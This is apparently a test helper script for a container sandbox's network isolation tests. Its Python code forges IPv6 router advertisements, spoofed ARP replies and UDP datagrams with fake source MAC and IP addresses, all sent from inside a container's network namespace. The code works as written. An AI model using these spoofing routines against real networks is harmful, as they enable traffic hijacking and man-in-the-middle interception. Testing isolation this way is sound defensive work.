"""Forged packets a container with CAP_NET_RAW can send on its network.

Run with python3 inside a container's network namespace (nsenter from the
sandbox, with every capability: more than any container holds), as
`python3 rogue.py MODE ARGS...`:

  ra                 router advertisements to all nodes: "route through me"
  arp MAC TO_MAC TO_IP CLAIMED_IP
                     ARP replies from MAC to TO_MAC/TO_IP: "CLAIMED_IP is at MAC"
  udp FROM_MAC FROM_IP TO_MAC TO_IP PORT TEXT
                     one UDP datagram with whatever source MAC and address

Exits 0 once the packets are sent; the test then looks at what the host and
the neighbours did with them.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

IFNAME = "eth0"
IFA_F_TENTATIVE = 0x40


def link_local(ifname: str, timeout: float = 10.0) -> str:
    """eth0's link-local address, once duplicate address detection is over."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with open("/proc/net/if_inet6") as f:
            for line in f:
                addr, _, _, scope, flags, name = line.split()
                if name == ifname and int(scope, 16) == 0x20 and not int(flags, 16) & IFA_F_TENTATIVE:
                    return ":".join(addr[i:i + 4] for i in range(0, 32, 4))
        time.sleep(0.1)
    raise SystemExit(f"no link-local address on {ifname}")


def router_advertisement() -> None:
    # eth0 has no IPv6; an attacker with every capability turns it back on.
    with open(f"/proc/sys/net/ipv6/conf/{IFNAME}/disable_ipv6", "w") as f:
        f.write("0")
    source = link_local(IFNAME)
    index = socket.if_nametoindex(IFNAME)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)  # ND wants 255
    s.bind((source, 0, 0, index))
    # type 134, code 0, checksum (the kernel's), hop limit 64, no flags,
    # router lifetime 1800 s, reachable and retransmit times unset; then a
    # prefix to autoconfigure addresses from (2001:db8:66::/64, L and A set).
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0,
                         socket.inet_pton(socket.AF_INET6, "2001:db8:66::"))
    for _ in range(3):
        s.sendto(ra + prefix, ("ff02::1", 0, 0, index))
        time.sleep(0.2)


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _send_frames(frames: list[bytes], times: int = 1) -> None:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((IFNAME, 0))
    for _ in range(times):
        for frame in frames:
            s.send(frame)
        time.sleep(0.2)


def arp_reply(mac: str, to_mac: str, to_ip: str, claimed_ip: str) -> None:
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, _mac(mac), socket.inet_aton(claimed_ip),
                      _mac(to_mac), socket.inet_aton(to_ip))
    _send_frames([_mac(to_mac) + _mac(mac) + b"\x08\x06" + arp], times=5)


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(from_mac: str, from_ip: str, to_mac: str, to_ip: str, port: str, text: str) -> None:
    payload = struct.pack("!HHHH", 40000, int(port), 8 + len(text), 0) + text.encode()  # no UDP checksum
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(from_ip), socket.inet_aton(to_ip))
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    _send_frames([_mac(to_mac) + _mac(from_mac) + b"\x08\x00" + header + payload], times=3)


if __name__ == "__main__":
    {"ra": router_advertisement, "arp": arp_reply, "udp": udp}[sys.argv[1]](*sys.argv[2:])
